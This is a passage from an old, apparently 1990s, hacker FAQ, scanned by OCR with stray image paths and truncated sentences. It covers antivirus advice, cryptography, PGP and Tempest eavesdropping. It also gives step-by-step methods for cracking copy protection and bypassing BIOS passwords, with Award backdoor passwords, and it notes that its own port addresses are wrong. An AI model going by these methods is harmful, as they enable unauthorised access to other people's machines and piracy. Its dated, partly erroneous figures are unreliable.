And, they are good for coasters.  Only kidding.Scan all incoming files with a recent copy of a good virus scanner.
Among the best are F-Prot, Dr.  Solomon's Anti-virus Toolkit, and
Thunderbyte Anti-Virus.  AVP is also a good program.  Using more than
one scanner could be helpful.  You may get those one or two viruses that
the other guy happened to miss this month.

New viruses come out at the rate of about 8 per day now.  NO scanner can
keep up with them all, but the four mentioned here do the best job of
keeping current.  Any _good_ scanner will detect the majority of common
viruses.  No virus scanner will detect all viruses.

Right now there are about 5600 known viruses.  New ones are written all
the time.  If you use a scanner for virus detection, you need to make
sure you get frequent updates.  If you rely on behavior blockers, you
should know that such programs can be bypassed easily by a technique
known as tunnelling.

You may want to use integrity checkers as well as scanners.  Keep in
mind that while these can supply added protection, they are not

You may want to use a particular kind of scanner, called resident
scanners.  Those are programs which stay resident in the computer memory
and constantly monitor program execution (and sometimes even access to
the files containing programs).  If you try to execute a program, the
resident scanner receives control and scans it first for known viruses.
Only if no such viruses are found, the program is allowed to execute.

Most virus scanners will not protect you against many kinds of trojans,
any sort of logic bombs, or worms.  Theoretically, they _could_ protect
you against logic bombs and/or worms, by addition of scanning strings;
however, this is rarely done.

The best, actually only way, to protect yourself is to know what you
have on your system and make sure what you have there is authorized by
you.  Make frequent backups of all important files.  Keep your DOSsystem files write protected.  Write protect all disks that you do not
need to write to.  If you do get a virus, don't panic.  Call the support
department of the company who supplies your anti-virus product if you
aren't sure of what you are doing.  If the company you got your anti-
virus software from does not have a good technical support department,
change companies.

The best way to make sure viruses are not spread is not to spread them.
Some people do this intentionally.  We discourage this. Viruses aren't


A-21.  Where can I get more information about viruses?

This FAQ answer was written by Theora:

Assembly language programming books illustrate the (boring) aspect of
replication and have for a long time.  The most exciting/interesting
thing about viruses is all the controversy around them.  Free speech,
legality, and cute payloads are a lot more interesting than "find first,
find next" calls.  You can get information about the technical aspects
of viruses, as well as helpif you should happen to get a virus, from
the virus-l FAQ, posted on comp. virus every so often. You can also pick
up on the various debates there.  There are alt.virus type newsgroups,
but the level of technical expertise is minimal, and so far at least
there has not been a lot of real "help" for people who want to get -
rid- of a virus.

There are a lot of virus experts.  To become one, just call yourself
one.  Only Kidding.  Understanding viruses involves understanding
programming, operating systems, and their interaction.  Understanding
all of the 'Cult of Virus' business requires a lot of discernment. There
are a number of good papers available on viruses, and the Cult of Virus;
you can get information on them from just about anyone listed in the
virus-l FAQ.  The FTP site is a pretty
reliable site for programs and text.


A-22. What is Cryptoxxxxxxx?

This FAQ answer is excerpted from: Computer Security Basics
                                   by Deborah Russell
                                   and G.T. Gengemi Sr.

A message is called either plaintext or cleartext.  The process of
disguising a message in such a way as to hide its substance is called
encryption.  An encrypted message is called ciphertext.  The process
of turning ciphertext back into plaintext is called decryption.

The art and science of keeping messages secure is called cryptography,
and it is practiced by cryptographers.  Cryptanalysts are
practitioners of cryptanalysis, the art and science of breaking
ciphertext, i.e. seeing through the disguise.  The branch of
mathematics embodying both cryptography and cryptanalysis is called
cryptology, and it's practitioners are called cryptologists.


A-23. What is PGP?

This FAQ answer is excerpted from: PGP(tm) User's GuideVolume I: Essential Topics
                                   by Philip Zimmermann

PGP(tm) uses public-key encryption to protect E-mail and data files.
Communicate securely with people you've never met, with no secure
channels needed for prior exchange of keys.  PGP is well featured and
fast, with sophisticated key management, digital signatures, data
compression, and good ergonomic design.

Pretty Good(tm) Privacy (PGP), from Phil's Pretty Good Software, is a
high security cryptographic software application for MS-DOS, Unix,
VAX/VMS, and other computers.  PGP allows people to exchange files or
messages with privacy, authentication, and convenience.  Privacy means
that only those intended to receive a message can read it.
Authentication means that messages that appear to be from a particular
person can only have originated from that person. Convenience means
that privacy and authentication are provided without the hassles ofmanaging keys associated with conventional cryptographic software.  No
secure channels are needed to exchange keys between users, which makes
PGP much easier to use.  This is because PGP is based on a powerful
new technology called "public key" cryptography.

PGP combines the convenience of the Rivest-Shamir-Adleman (RSA) public
key cryptosystem with the speed of conventional cryptography, message
digests for digital signatures, data compression before encryption, good
ergonomic design, and sophisticated key management.  And PGP performs
the public-key functions faster than most other software
implementations.  PGP is public key cryptography for the masses.


A-24. What is Tempest?

Tempest stands for Transient Electromagnetic Pulse SurveillanceComputers and other electronic equipment release interference to their
surrounding environment.  You may observe this byplacing two video
monitors close together.  The pictures will behave erratically until you
space them apart.

What is important for an observer is the emission of digital pulses (1s
and 0s) as these are used in computers.  The channel for this radiation
is in two arrangements, radiated emissions and conducted emissions.
Radiated emissions are assembled when components in electrical devices
form to act as antennas.  Conducted emissions are formed when radiation
is conducted along cables and wires.

Although most of the time these emissions are simply annoyances, they
can sometimes be very helpful.  Suppose we wanted to see what project a
target was working on.  We could sit in a van outside her office and use
sensitive electronic equipment to attempt to pick up and decipher theradiated emissions from her video monitor.  These emissions normally
exist at around 55-245 Mhz and can be picked up as far as one kilometer

A monitoring device can distinguish between different sources emitting
radiation because the sources emanating the radiation are made up of
dissimilar elements and so this coupled with other factors varies the
emitted frequency.  For example different electronic components in VDUs,
different manufacturing processes involved in reproducing the VDUs,
different line syncs, etc...  By synchronizing our raster with the
targets raster we can passively draw the observed screen in real-time.
This technology can be acquired by anyone, not just government agencies.

The target could shield the emissions from her equipment or use
equipment that does not generate strong emissions.  However, Tempest
equipment is not legal for civilian use in the United States.

Tempest is the US Government program for evaluation and endorsement of
electronic equipment that is safe from eavesdropping.  Tempest
certification refers to the equipment having passed a testing phase and
agreeing to emanations rules specified in the government document NACSIM
5100A (Classified).  This document sets forth the emanation levels that
the US Government believes equipment can give off without compromising
the information it is processing.


A-25. How do I defeat Copy Protection?

There are two common methods of defeating copy protection.  The first
is to use a program that removes copy protection.  Popular programs
that do this are CopyIIPC from Central Point Software and CopyWrite
from Quaid Software.  The second method involves patching the copy
protected program.  For popular software, you may be able to locate a
ready made patch.  You can them apply the patch using any hex editor,
such as debug or the Peter Norton's DiskEdit.  If you cannot, you mustpatch the software yourself.

Writing a patch requires a debugger or a disassembler.  It also requires
some knowledge of assembly language.  Load the protected program under
the debugger and watch for it to check the protection mechanism.  When
it does, change that portion of the code.  The code can be changed from
JE (Jump on Equal) or JNE (Jump On Not Equal) to JMP (Jump
Unconditionally).  Or the code may simply be replaced with NOP (No
Operation) instructions.


A-26. What are some available debuggers and disassemblers?

Soft-Ice ($439)
Soft-Ice for Windows ($329)
Soft-Ice for Windows95 ($329)
Soft-Ice for WindowsNT ($329)
Nu-Mega Technologies, Inc.
9 Townsend West
Nashua, NH 03063

D86 - Eric Isaacson's ShareWare debuggerBrandX full-screen debugger

Sourcer ($95)
V Communications, Inc.
4320 Stevens Creek Boulevard
Suite 120
San Jose, CA 95129
(408)296-4441 Fax

IDA (Interactive Disassembler)


A-27. How do I defeat a BIOS password?

This depends on what BIOS the machine has.  Common BIOS's include AMI,
Award, IBM and Phoenix.  Numerous other BIOS's doexist, but these are
the most common.

Some BIOS's allow you to require a password be entered before the system
will boot. Some BIOS's allow you to require a password to beentered
before the BIOS setup may be accessed.

Every BIOSmust store this password information somewhere.  If you are
able to access the machine after it has been booted successfully, you
may be able to view the password.  You must know the memory address
where the password is stored, and the format in which the password is
stored.  Or, you must have a program that knows these things.

You can write your own program to read the CMOS memory on a PC by
writing the address of the byte of CMOS memory that you wish to read in
port 0x370, and then reading the contents of port 0x371.

[Note from Screech: I've always thought that it was 0x70 and 0x71 H.]
[Note from qu@f.f: You're correct that the FAQ's incorrect H.]

The most common pre-written BIOS password attack programs are for AMI
BIOS.  Some password attack programs will return the AMI BIOS password
in plain text, some will return it in ASCII codes, some will return it
in scan codes. This appears to be dependent not just on the password
attacker, but also on the version of AMI BIOS.

To obtain AMI BIOS password attackers, ftp to

Award BIOS appears not to store the BIOS password, but instead onlystores a two byte checksum of the BIOS password.  This means that any
other password with the same checksum will work just as well as the
original password.

In addition, Award BIOS seems to implement backdoor passwords.  One
backdoor password is eight spaces.  Other backdoor passwords are
"AWARD_SW", "AWARD_PW", "589589", "condo", "j262", "KDD", "ZBAAACA",
"ZAAAADA", and "ZJAAADC." Remember that these may not be the actual
backdoor passwords, these passwords may simply have the same checksum as
the actual backdoor passwords.  This checksum is stored at F000:EC60.

If you cannot access the machine after if has been powered up, it is
still possible to get past the password.  The password is stored in CMOS
memory that is maintained while the PC is powered off by a smallbattery, which is attached to the motherboard.  If you remove this
battery, all CMOS information will be lost.  You will need to re-enter
the correct CMOS setup information to use the machine.  The machines
owner or user will most likely be alarmed when it is discovered that the
BIOS password has been deleted.

On some motherboards, the battery is soldered to the motherboard, making
it difficult to remove.  If this is the case, you have another
alternative.  Somewhere on the motherboard you should find a jumper thatwill clear the BIOS password.  If you have the motherboard
documentation, you will know where that jumper is.  If not, the jumper
may be labeled on the motherboard.  If you are not fortunate enough for
either of these to be the case, you may be able to guess which jumper is
the correct jumper.  This jumper is usually standing alone near the
battery.  If you cannot locate this jumper, you might short both of the
points where the battery connects to the motherboard.  Several people
